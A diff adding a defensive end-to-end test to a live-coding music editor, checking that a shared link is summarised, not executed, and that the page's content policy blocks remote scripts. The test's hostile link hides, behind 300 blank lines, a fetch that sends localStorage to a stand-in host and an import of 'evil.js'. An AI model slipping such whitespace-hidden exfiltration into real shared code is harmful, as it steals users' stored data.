@@ -2,6 +2,8 @@
  * Code that survives: autosave restores on reload; a shared link loads without overwriting the
  * autosaved code, stays silent until played, and the user's own code can be restored.
  */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { encodeCode } from '../../src/editor/share.ts';
 import { openApp, type AppSession } from './harness.ts';
@@ -110,6 +112,46 @@ describe('keeping code', () => {
     await page.selectOption('#history', { index: 2 });
     expect(await editorLines(page)).toEqual(['note("c4").s("sine")']);
     await page.click('#stop');
+  });
+
+  it('shows what a hostile link reaches before it runs, runs nothing, sends nothing, and the page loads no remote script', async () => {
+    const { page } = session;
+    const requests: string[] = [];
+    const server = createServer((req, res) => {
+      requests.push(req.url ?? '');
+      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('globalThis.pwned = true;');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const violations: string[] = [];
+    const onConsole = (message: { text(): string }) => {
+      if (message.text().includes('Content Security Policy')) violations.push(message.text());
+    };
+    page.on('console', onConsole);
+    try {
+      await open(`${session.url}?test`);
+      await page.evaluate('localStorage.clear()');
+      await typeCode(page, 'note("c3")');
+      await page.waitForTimeout(800);
+      const hostile = `note("c4 e4").s("sine")${'\n'.repeat(300)}fetch('http://${host}/steal?' + encodeURIComponent(JSON.stringify(localStorage)))\nimport('http://${host}/evil.js')\nnote("c4")`;
+      await open(`${session.url}?test#code=${encodeCode(hostile)}`);
+      const summary = (await page.textContent('#shared-summary')) ?? '';
+      expect(summary).toContain('303 lines (299 blank)');
+      expect(summary).toContain(`reaches ${host}`);
+      expect(summary).toMatch(/touches the page: .*localStorage.*fetch.*import/);
+      await page.waitForTimeout(1500);
+      expect(requests).toEqual([]); // nothing ran: nothing was sent
+      expect(await page.evaluate("localStorage.getItem('motif.code')")).toBe('note("c3")');
+      // The page's policy refuses scripts from other origins, before any request is made.
+      const loaded = await page.evaluate(`import('http://${host}/evil.js').then(() => 'loaded', (error) => String(error))`);
+      expect(loaded).not.toBe('loaded');
+      expect(requests).toEqual([]);
+      expect(violations.some((text) => text.includes('evil.js'))).toBe(true);
+      expect(violations.filter((text) => !text.includes('evil.js'))).toEqual([]); // the app itself breaks no rule
+    } finally {
+      page.off('console', onConsole);
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    }
   });
 
   it('shares the code through the URL hash', async () => {
